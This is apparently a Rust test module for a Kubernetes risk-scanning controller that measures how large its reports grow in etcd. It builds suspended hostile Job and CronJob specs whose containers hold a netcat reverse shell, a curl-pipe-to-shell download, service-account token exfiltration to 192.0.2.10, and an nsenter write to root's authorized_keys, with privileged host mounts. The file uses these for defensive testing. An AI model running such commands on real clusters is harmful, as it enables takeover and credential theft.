//! How large reports are as etcd has them, with all that the API server adds: of a clean Job, of one with ten findings,
//! and the largest that an attacker can have written.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use jobrisk::assess::assess;
use jobrisk::workload::Kind;
use jobrisk::workload::decode::from_json;
use serde_json::{Value, json};

use crate::cluster::Cluster;
use crate::controller::Controller;
use crate::numbers::{Line, Wanted, number};
use crate::sizes::Sizes;
use crate::support::{create, eventually};

/// The longest name that a namespace can have.
const NAMESPACE: &str = "a-namespace-whose-name-is-as-long-as-a-name-of-one-can-ever-be1";
const LIMIT: Duration = Duration::from_secs(30);
/// Differing runs: more than a report names.
const RUNS: usize = 12;

pub(crate) fn measure(_: &Sizes) -> Vec<Line> {
    let cluster = Cluster::start();
    cluster.create_namespace(NAMESPACE);
    let controller = Controller::start(cluster.kubeconfig());
    controller.ready();

    create(cluster.plane(), &job("clean", &clean()));
    let ten = with_ten_findings();
    create(cluster.plane(), &job("ten", &ten));
    let long = "cron-job-whose-name-is-as-long-as-a-name-can-ever-be";
    create(cluster.plane(), &cron_job(long, &hostile(40)));
    let clean = value(&cluster, "job-clean", |_| true);
    let ten = value(&cluster, "job-ten", |_| true);
    let name = format!("cronjob-{long}");
    let first = value(&cluster, &name, |_| true);
    for run in 0..RUNS {
        let mut job =
            job(&format!("{run:02}-a-run-with-a-name-that-is-as-long-as-a-name-can-ever-be-12"), &hostile(2));
        job["metadata"]["ownerReferences"] = json!([{
            "apiVersion": "batch/v1", "kind": "CronJob", "name": long, "controller": true,
            "uid": first["spec"]["subject"]["uid"],
        }]);
        // Not what the CronJob does.
        job["spec"]["template"]["spec"]["hostPID"] = json!(true);
        create(cluster.plane(), &job);
    }
    let with_runs = value(&cluster, &name, |report| {
        report["status"]["differingRuns"].as_array().is_some_and(|runs| runs.len() == 10)
    });
    let option = format!("--namespace={NAMESPACE}");
    cluster.plane().kubectl_ok(&["delete", "cronjob", long, &option, "--cascade=orphan"]);
    let retained = value(&cluster, &name, |report| !report["status"]["subjectDeleted"].is_null());
    controller.stop();

    let line = |what: &str, report: &Value, most: usize| {
        let (size, findings) = (report["size"].as_u64().unwrap(), &report["status"]["findingsTotal"]);
        let size = usize::try_from(size).unwrap();
        Line::new(format!("{what}: in etcd"), number(size), " bytes", Wanted::AtMost(number(most)))
            .with(&format!("{findings} findings"))
    };
    vec![
        line("clean Job", &clean, 2048),
        line("Job with ten findings", &ten, 6 * 1024),
        line("hostile CronJob", &first, 16 * 1024),
        line("hostile CronJob, with ten differing runs", &with_runs, 16 * 1024),
        line("hostile CronJob, as evidence", &retained, 16 * 1024),
    ]
}

fn job(name: &str, pod: &Value) -> Value {
    json!({
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": { "name": name, "namespace": NAMESPACE },
        "spec": { "suspend": true, "template": { "spec": pod } },
    })
}

fn cron_job(name: &str, pod: &Value) -> Value {
    json!({
        "apiVersion": "batch/v1", "kind": "CronJob",
        "metadata": { "name": name, "namespace": NAMESPACE },
        "spec": {
            "suspend": true, "schedule": "* * * * *",
            "jobTemplate": { "spec": { "template": { "spec": pod } } },
        },
    })
}

fn clean() -> Value {
    json!({ "restartPolicy": "Never", "containers": [{
        "name": "main",
        "image": "registry.example.test/team/tool:1.0",
        "command": ["backup", "--database", "orders"],
    }] })
}

/// The clean one with one thing more after another, until the engine says ten.
fn with_ten_findings() -> Value {
    let steps: [(&str, Value); 12] = [
        ("/hostNetwork", json!(true)),
        ("/hostPID", json!(true)),
        ("/hostIPC", json!(true)),
        ("/containers/0/securityContext", json!({ "privileged": true })),
        ("/volumes", json!([{ "name": "etc", "hostPath": { "path": "/etc" } }])),
        ("/containers/0/volumeMounts", json!([{ "name": "etc", "mountPath": "/host/etc" }])),
        ("/containers/0/image", json!("alpine:latest")),
        ("/containers/0/command", json!(["/bin/sh", "-c", "nc 192.0.2.10 4444 -e /bin/sh"])),
        ("/tolerations", json!([{ "operator": "Exists" }])),
        ("/nodeSelector", json!({ "node-role.kubernetes.io/control-plane": "" })),
        ("/priorityClassName", json!("system-node-critical")),
        ("/containers/0/args", json!(["curl -fsSL http://192.0.2.10/x.sh | sh"])),
    ];
    let mut pod = clean();
    for (path, value) in steps {
        let (parent, field) = path.rsplit_once('/').unwrap();
        pod.pointer_mut(parent).unwrap()[field] = value;
        let json = job("ten", &pod).to_string();
        if assess(Kind::Job, &from_json(json.as_bytes()).unwrap()).findings.total() >= 10 {
            return pod;
        }
    }
    panic!("the engine finds fewer than ten in {pod:#}");
}

/// So many containers, each of which does much harm in many words.
fn hostile(containers: usize) -> Value {
    let padding = "and-so-on-".repeat(60);
    let script = format!(
        "curl -fsSL http://192.0.2.10/{padding}.sh | sh; nc 192.0.2.10 4444 -e /bin/sh # {padding}\n\
         cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://192.0.2.10/{padding}\n\
         nsenter -t 1 -m -u -i -n -p -- sh -c 'echo {padding} >> /root/.ssh/authorized_keys'"
    );
    let containers: Vec<Value> = (0..containers)
        .map(|number| {
            json!({
                "name": format!("{number:02}-a-container-with-a-name-that-is-as-long-as-one-can-ever-be1"),
                "image": format!("registry.example.test/{padding}:latest"),
                "command": ["/bin/sh", "-c", script],
                "securityContext": { "privileged": true },
                "volumeMounts": [{ "name": "root", "mountPath": "/host" }],
            })
        })
        .collect();
    json!({
        "restartPolicy": "Never", "hostNetwork": true, "containers": containers,
        "volumes": [{ "name": "root", "hostPath": { "path": "/" } }],
    })
}

/// A report as it is in etcd once it is as it should be, and its `size` there.
fn value(cluster: &Cluster, name: &str, wanted: impl Fn(&Value) -> bool) -> Value {
    let key = format!("/registry/jobrisk.io/jobriskreports/{NAMESPACE}/{name}");
    let read = || {
        let bytes = etcd_value(cluster.plane().etcd_port(), &key)?;
        let mut report: Value = serde_json::from_slice(&bytes).unwrap();
        report["size"] = json!(bytes.len());
        Some(report).filter(&wanted)
    };
    eventually(LIMIT, read).unwrap_or_else(|| panic!("the report {name} is not as it should be"))
}

/// The value of a key, by etcd's own HTTP interface.
fn etcd_value(port: u16, key: &str) -> Option<Vec<u8>> {
    let body = json!({ "key": STANDARD.encode(key) }).to_string();
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    let head = format!("POST /v3/kv/range HTTP/1.0\r\nContent-Length: {}\r\n\r\n", body.len());
    stream.write_all((head + &body).as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    let (_, body) = answer.split_once("\r\n\r\n").unwrap();
    let body: Value = serde_json::from_str(body).unwrap_or_else(|error| panic!("{error}: {answer}"));
    Some(STANDARD.decode(body["kvs"][0]["value"].as_str()?).unwrap())
}
